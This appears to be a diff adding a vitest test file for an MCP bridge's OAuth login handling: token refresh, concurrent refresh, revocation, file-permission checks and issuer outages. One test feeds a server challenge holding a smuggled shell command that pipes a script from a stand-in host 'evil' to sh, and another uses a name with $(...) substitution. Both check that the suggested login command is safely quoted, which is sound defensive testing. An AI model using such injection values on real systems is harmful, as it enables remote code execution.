@@ -1,0 +1,264 @@
+// Logins as runs use them, at a real authorization server: what is refreshed, by whom, and when a person is needed.
+
+import { chmodSync, mkdtempSync, rmSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { setTimeout as sleep } from 'node:timers/promises';
+import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test, vi } from 'vitest';
+import { BridgeError } from '../../../src/base/errors.js';
+import { Redactor } from '../../../src/base/redact.js';
+import { logIn } from '../../../src/downstream/oauth/log-in.js';
+import { LoginNeeded, LoginTrouble } from '../../../src/downstream/oauth/login-needed.js';
+import { Logins } from '../../../src/downstream/oauth/logins.js';
+import { type Login, TokenStore } from '../../../src/downstream/oauth/token-store.js';
+import type { ServerLogin } from '../../../src/downstream/remote/server-login.js';
+import {
+  type AuthServer,
+  Browser,
+  type ProtectedServer,
+  startAuthServer,
+  startProtectedServer,
+} from '../../support/oauth.js';
+import { hints, remoteSpec } from './remote-spec.js';
+
+const COMMAND = 'Run `mcp-sandbox-bridge login linear` in a terminal.';
+const { signal } = new AbortController();
+
+let auth: AuthServer;
+let server: ProtectedServer;
+let stateDir: string;
+let store: TokenStore;
+let redactor: Redactor;
+
+beforeAll(async () => {
+  auth = await startAuthServer();
+  server = await startProtectedServer(auth);
+});
+afterAll(async () => {
+  await server[Symbol.asyncDispose]();
+  await auth[Symbol.asyncDispose]();
+});
+beforeEach(() => {
+  stateDir = mkdtempSync(join(tmpdir(), 'oauth-'));
+  store = new TokenStore(stateDir);
+  redactor = new Redactor();
+  auth.accessSeconds = 3600;
+  auth.isDown = false;
+  auth.onRequest = () => {};
+});
+afterEach(() => rmSync(stateDir, { recursive: true, force: true }));
+
+function person(): Promise<Login> {
+  const onUrl = (url: string) => void new Browser().visit(url);
+  const options = { store, redactor, scopes: [], clientMetadataUrl: undefined, onUrl };
+  return logIn(remoteSpec(server.url), options, signal);
+}
+
+/** What one bridge knows of the login. */
+function bridge(some: Parameters<typeof remoteSpec>[1] = {}): ServerLogin {
+  const login = new Logins(stateDir, redactor).of(remoteSpec(server.url, some));
+  if (login === undefined) throw new Error('no login');
+  return login;
+}
+
+const kept = (): Login => {
+  const stored = store.read(server.url);
+  if (stored.state !== 'kept') throw new Error(stored.state);
+  return stored.login;
+};
+const changed = (some: Partial<Login>) => store.write({ ...kept(), ...some });
+const tokenRequests = () => auth.requests.filter((request) => request === 'POST /token').length;
+
+async function isTaken(token: string | undefined): Promise<boolean> {
+  const { status } = await fetch(server.url, { headers: { authorization: `Bearer ${token}` } });
+  return status !== 401;
+}
+
+test('a server whose entry says how it is logged in takes none of ours', () => {
+  const logins = new Logins(stateDir, redactor);
+  expect(logins.of(remoteSpec(server.url, { oauth: false }))).toBeUndefined();
+  expect(logins.of(remoteSpec(server.url, { headers: { Authorization: 'Basic eDp5' } }))).toBeUndefined();
+});
+
+test('without a login there is no token, and a refusal says the command', async () => {
+  expect(await bridge().token(signal)).toBeUndefined();
+  await expect(bridge().renew(undefined, signal)).rejects.toMatchObject({
+    reason: 'it wants a login',
+    remedy: COMMAND,
+  });
+});
+
+test('a login is there for a bridge that runs already', async () => {
+  const running = bridge();
+  expect(await running.token(signal)).toBeUndefined();
+  const { accessToken } = await person();
+  expect(await running.token(signal)).toBe(accessToken);
+  expect(redactor.redact(`sent ${accessToken}`)).toBe('sent [access token of linear]');
+});
+
+test('an access token that has really ended is refreshed before it is sent', async () => {
+  auth.accessSeconds = 1;
+  const { accessToken } = await person();
+  await sleep(1_050);
+  auth.accessSeconds = 3600;
+  expect(await isTaken(accessToken)).toBe(false);
+  const token = await bridge().token(signal);
+  expect(token).not.toBe(accessToken);
+  expect(await isTaken(token)).toBe(true);
+  expect(kept()).toMatchObject({ accessToken: token, resource: server.url, scopes: ['mcp:tools'] });
+});
+
+test('an access token that the server refuses early is refreshed once, for all who were refused', async () => {
+  const { accessToken } = await person();
+  await auth.drop(accessToken);
+  const before = tokenRequests();
+  const one = bridge();
+  await Promise.all([
+    one.renew(accessToken, signal),
+    one.renew(accessToken, signal),
+    one.renew(accessToken, signal),
+  ]);
+  expect(await isTaken(await one.token(signal))).toBe(true);
+  expect(tokenRequests() - before).toBe(1);
+});
+
+test('two bridges do not spend the same refresh token', async () => {
+  await person();
+  for (let round = 0; round < 3; round++) {
+    changed({ expiresAtMs: Date.now() - 1 });
+    const before = tokenRequests();
+    const tokens = await Promise.all([
+      bridge().token(signal),
+      bridge().token(signal),
+      bridge().token(signal),
+    ]);
+    expect(new Set(tokens).size).toBe(1);
+    expect(await isTaken(tokens[0])).toBe(true);
+    expect(tokenRequests() - before).toBe(1);
+  }
+});
+
+test('the control: a refresh token that is used twice ends the login for everybody', async () => {
+  const first = await person();
+  await bridge().renew(first.accessToken, signal);
+  const second = kept();
+  expect(await isTaken(second.accessToken)).toBe(true);
+  store.write({ ...first, expiresAtMs: Date.now() - 1 });
+  await expect(bridge().token(signal)).rejects.toBeInstanceOf(LoginNeeded);
+  expect(await isTaken(second.accessToken)).toBe(false);
+});
+
+test('a refresh token that is spent is no loss where a newer login has been kept meanwhile', async () => {
+  const spent = await person();
+  await auth.revoke(spent.refreshToken ?? '', { id: spent.client.client_id });
+  const newer = await person();
+  store.write({ ...spent, expiresAtMs: Date.now() - 1 });
+  auth.onRequest = (request) => {
+    if (request === 'POST /token') store.write(newer);
+  };
+  expect(await bridge().token(signal)).toBe(newer.accessToken);
+});
+
+describe('a person is needed', () => {
+  test('when the refresh token was revoked; the tokens are forgotten', async () => {
+    const { refreshToken = '', client } = await person();
+    await auth.revoke(refreshToken, { id: client.client_id });
+    changed({ expiresAtMs: Date.now() - 1 });
+    await expect(bridge().token(signal)).rejects.toMatchObject({
+      reason: 'its login has ended',
+      remedy: COMMAND,
+    });
+    expect(store.read(server.url)).toEqual({ state: 'absent' });
+  });
+
+  test('when there is no refresh token', async () => {
+    await person();
+    const { refreshToken: _none, ...login } = kept();
+    store.write(login);
+    await expect(bridge().renew(login.accessToken, signal)).rejects.toBeInstanceOf(LoginNeeded);
+  });
+
+  test('when the entry has another client now', async () => {
+    await person();
+    expect(await bridge({ oauth: hints({ clientId: 'another' }) }).token(signal)).toBeUndefined();
+  });
+
+  test('when the file is open to others; it says which', async () => {
+    await person();
+    chmodSync(store.fileOf(server.url), 0o644);
+    expect(await bridge().token(signal)).toBeUndefined();
+    await expect(bridge().renew(undefined, signal)).rejects.toMatchObject({
+      reason: `it wants a login; the one that was kept is not used, since ${store.fileOf(server.url)} can be read or written by other users`,
+      remedy: COMMAND,
+    });
+  });
+
+  test('when the server asks for more; the command asks for it', () => {
+    const challenge = 'Bearer error="insufficient_scope", scope="mcp:tools mcp:admin"';
+    expect(bridge().refused({ status: 403, challenge })).toMatchObject({
+      reason: 'it asks for more than its login was granted',
+      remedy: "Run `mcp-sandbox-bridge login linear --scope 'mcp:tools mcp:admin'` in a terminal.",
+    });
+    const hostile = `Bearer error="insufficient_scope", scope="x';curl\${IFS}evil|sh;'"`;
+    expect(bridge().refused({ status: 403, challenge: hostile })).toMatchObject({ remedy: COMMAND });
+  });
+
+  test('when a fresh token is refused, but not for a 403 of another kind', () => {
+    expect(bridge().refused({ status: 401, challenge: undefined })).toMatchObject({ remedy: COMMAND });
+    expect(bridge().refused({ status: 403, challenge: undefined })).toBeUndefined();
+  });
+
+  test('whose server has a name that a shell would take apart', async () => {
+    const named = bridge({ name: "my $(server)'s" });
+    await expect(named.renew(undefined, signal)).rejects.toMatchObject({
+      remedy: "Run `mcp-sandbox-bridge login 'my $(server)'\\''s'` in a terminal.",
+    });
+  });
+});
+
+test('nothing is refreshed that could not be kept', async () => {
+  const { refreshToken } = await person();
+  changed({ expiresAtMs: Date.now() - 1 });
+  const before = tokenRequests();
+  // A test that runs as root can close no folder to itself.
+  const fails = vi.spyOn(TokenStore.prototype, 'lock').mockRejectedValue(
+    new BridgeError('E_STATE', 'Logins cannot be kept in /x: read-only.', {
+      fault: 'operator',
+      remedy: 'Set it.',
+    }),
+  );
+  await expect(bridge().token(signal)).rejects.toMatchObject({
+    reason: 'its login cannot be refreshed: Logins cannot be kept in /x: read-only',
+    remedy: 'Set it.',
+  });
+  fails.mockRestore();
+  expect(tokenRequests()).toBe(before);
+  expect(kept().refreshToken).toBe(refreshToken);
+});
+
+describe('an issuer that does not answer', () => {
+  test('costs nothing as long as the access token is good', async () => {
+    const { accessToken } = await person();
+    changed({ obtainedAtMs: Date.now() - 3_600_000, expiresAtMs: Date.now() + 10_000 });
+    auth.isDown = true;
+    expect(await bridge().token(signal)).toBe(accessToken);
+  });
+
+  test('is told as such, and the login is kept', async () => {
+    const { refreshToken } = await person();
+    changed({ expiresAtMs: Date.now() - 1 });
+    auth.isDown = true;
+    const thrown = await bridge()
+      .token(signal)
+      .catch((error: unknown) => error);
+    expect(thrown).toBeInstanceOf(LoginTrouble);
+    expect(thrown).not.toBeInstanceOf(LoginNeeded);
+    expect(thrown).toMatchObject({
+      reason: expect.stringContaining('its login could not be refreshed: HTTP 503'),
+      remedy: `If it stays so: ${COMMAND}`,
+    });
+    auth.isDown = false;
+    expect(kept().refreshToken).toBe(refreshToken);
+    expect(await isTaken(await bridge().token(signal))).toBe(true);
+  });
+});
